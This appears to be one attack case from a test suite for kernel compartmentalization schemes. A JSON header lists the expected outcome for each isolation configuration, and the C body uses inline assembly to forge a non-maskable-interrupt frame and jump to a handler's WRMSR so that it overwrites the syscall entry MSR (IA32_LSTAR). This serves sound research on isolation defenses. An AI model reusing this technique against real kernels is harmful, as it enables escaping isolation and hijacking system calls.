/*
{
  "title": "IA32_LSTAR set by a jump to the WRMSR by which a handler gives EFER back, with the frame of a non-maskable interrupt on the stack that the processor has for those: the handler goes on, and returns",
  "reference": "Guo et al., BULKHEAD: Secure, Scalable, and Efficient Kernel Compartmentalization with PKS, NDSS 2025 (each WRMSR is a gate); Connor et al., PKU Pitfalls: Attacks on PKU-based Memory Isolation Systems, USENIX Security 2020, section 4 (signals)",
  "symbols": ["write_msr", "handler_repair"],
  "cells": {
    "none": {"outcome": "completed"},
    "uio-mpk": {"outcome": "escaped"},
    "mpk-hardened": {"outcome": "contained"},
    "ring3": {"outcome": "contained"},
    "pks-hardened": {"outcome": "contained"},
    "mpk-bundled": {"outcome": "refused"}
  },
  "control": {
    "none": "completed",
    "uio-mpk": "completed",
    "mpk-hardened": "completed",
    "ring3": "completed",
    "pks-hardened": "completed",
    "mpk-bundled": "completed"
  }
}
*/
#include "attack.h"
#include "gadget.h"
#define write_msr own_write_msr
#include "processor.h"

extern const char handler_repair[] __attribute__((weak));

// Behind the constants that it sets: two of five bytes, one of two.
enum { WRMSR_AT = 12, NMI = 2, FRAME_WORDS = 22 };

static void jump(volatile uint64_t *frame) {
  for (int word = 0; word < 15; word++) frame[word] = 0;
  frame[15] = NMI;
  frame[16] = 0;
  __asm__ volatile(
      "movq %%rbp, 80(%0)\n"
      "movq %%rbx, 88(%0)\n"
      "leaq 1f(%%rip), %%r8\n"
      "movq %%r8, 136(%0)\n"
      "movl %%cs, %%r8d\n"
      "movq %%r8, 144(%0)\n"
      "movq $0x202, 152(%0)\n"
      "movq %%rsp, 160(%0)\n"
      "movl %%ss, %%r8d\n"
      "movq %%r8, 168(%0)\n"
      "movq %0, %%rsp\n"
      "jmp *%1\n"
      "1:"
      :
      : "D"(frame), "S"(handler_repair + WRMSR_AT), "a"(0), "c"(0xc0000082), "d"(1)
      : "r8", "r9", "r10", "r11", "r12", "r13", "r14", "r15", "memory");
}

int main(void) {
  GOAL_END();
  BYPASS(
      if (handler_repair) jump((volatile uint64_t *)stack_top_of(NMI) - FRAME_WORDS);
      else gadget_write_msr(0, 0xc0000082, 1ull << 32));
  return 0;
}
